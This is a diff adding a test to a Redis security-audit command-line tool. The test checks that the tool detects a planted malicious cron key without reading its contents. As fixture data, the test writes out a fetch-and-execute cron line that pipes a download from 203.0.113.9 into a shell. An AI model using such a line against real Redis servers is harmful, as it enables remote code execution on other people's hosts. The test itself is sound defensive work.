@@ -10,6 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startRedis, type RedisServer } from '../helpers/redis-server.js';
 import { rawConnect, type RawClient } from '../helpers/raw-client.js';
 import { ALLOWLIST, isAllowed } from '../../src/resp/index.js';
+import { SUSPICIOUS_KEYS } from '../../src/facts/probes.js';
 import { cli } from '../helpers/run-cli.js';
 
 const PW = 'monitor-admin-pw-55c1';
@@ -87,5 +88,28 @@ describe('audit under MONITOR', () => {
     expect(await check.call('GET', 'app:canary')).toBe('still-here');
     expect(await check.call('DBSIZE')).toBe(1);
     check.close();
+  });
+
+  it('with --probe-keys the only key reads are one EXISTS per known attack key, and a planted one is found', async () => {
+    const setup = await rawConnect(server.port);
+    await setup.call('AUTH', 'admin', PW);
+    await setup.call('SET', 'backup2', '\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x | sh\n\n');
+    setup.close();
+    const from = received.length;
+    const r = await cli(['audit', `redis://127.0.0.1:${server.port}`, '--user', 'admin', '--probe-keys', '--format', 'json', '--fail-on', 'critical'], { REDSEC_PASSWORD: PW });
+    expect(r.code).toBe(1);
+    await new Promise((res) => setTimeout(res, 200));
+    const commands = received
+      .slice(from)
+      .split('\r\n')
+      .filter((l) => /^\+\d+\.\d+ \[/.test(l))
+      .map(monitorArgs)
+      .filter((a) => a.length > 0);
+    const keyReads = commands.filter((a) => !isAllowed(a));
+    expect(keyReads).toEqual(SUSPICIOUS_KEYS.map((k) => ['EXISTS', k]));
+    const report = JSON.parse(r.stdout) as { findings: { id: string; status: string; evidence: string; severity: string }[] };
+    expect(report.findings.find((f) => f.id === 'IOC-CRON-KEYS')).toMatchObject({ status: 'fail', severity: 'critical', evidence: 'suspicious keys present: backup2' });
+    // The payload itself is never read, let alone printed.
+    expect(r.stdout).not.toContain('curl');
   });
 });
